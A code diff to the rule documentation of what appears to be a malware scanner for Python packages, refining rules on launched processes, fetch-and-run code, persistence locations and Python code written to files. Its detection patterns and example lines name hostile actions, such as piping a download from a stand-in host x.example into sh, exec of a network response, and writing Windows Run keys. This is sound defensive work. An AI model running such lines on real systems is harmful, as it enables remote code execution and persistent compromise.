@@ -165,7 +165,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd); also a second Python started with inline code (python -c), or a bare interactive shell, by code that runs on import or start-up. High in code that runs at install, start-up or import, and for PowerShell told to bypass the execution policy with a hidden window; low when called.',
+      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd); also a second Python started with inline code (python -c) and left running, or whose code cannot be read (a query whose output the import reads is judged by its inline code), or a bare interactive shell, by code that runs on import or start-up. High in code that runs at install, start-up or import, and for PowerShell told to bypass the execution policy with a hidden window; low when called.',
     example: 'os.system("start " + path + "\\\\update.exe")',
     falsePositives: 'Command-line tools that open files or run helper scripts when the user asks (low).',
   },
@@ -195,7 +195,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable file written by urlretrieve or by a function that fetched its bytes, then started as it is.',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started.',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives:
       'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
@@ -364,7 +364,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'medium',
     catches:
-      'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files. High in code that runs at install, start-up or import (shell start-up files: at install or start-up); a name in a table of names, or a shell start-up file edited only when called, is low.',
+      'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files. High in code that runs at install, start-up or import (shell start-up files: at install or start-up), and in a function that also downloads (other than shell start-up files: tool installers add PATH lines); a name in a table of names, or a shell start-up file edited only when called, is low.',
     example: 'winreg.SetValueEx(key, "upd", 0, REG_SZ, path)  # Software\\Microsoft\\Windows\\CurrentVersion\\Run',
     falsePositives:
       'System administration tools; shell-completion installers a user runs (typer, userpath: low); lexers listing shell file names (pygments: low).',
@@ -409,6 +409,17 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     example: 'class Install(install):\n    def run(self):\n        from demo import hook\n        hook.start()',
     falsePositives:
       'setup.py reading the version from its own package: the finding is info, and that module is judged as install-time code.',
+  },
+  {
+    id: 'python-code-written',
+    name: 'Python code written to a file',
+    family: 'dynamic-code',
+    severity: 'info',
+    catches:
+      'A string literal that reads as Python statements (an import, or a call of exec, eval, compile or __import__) written into a file with .write(), typically to start it later as a script. The literal is analysed as a virtual file (path#decoded-N) with the trigger of the write, so a downloader kept as text is judged as the code it is.',
+    example: 'tmp.write(b"from urllib.request import urlopen; exec(urlopen(URL).read())")',
+    falsePositives:
+      'Code generators and project templates that write Python files; info, their content is judged on its own.',
   },
   {
     id: 'drop-and-run',
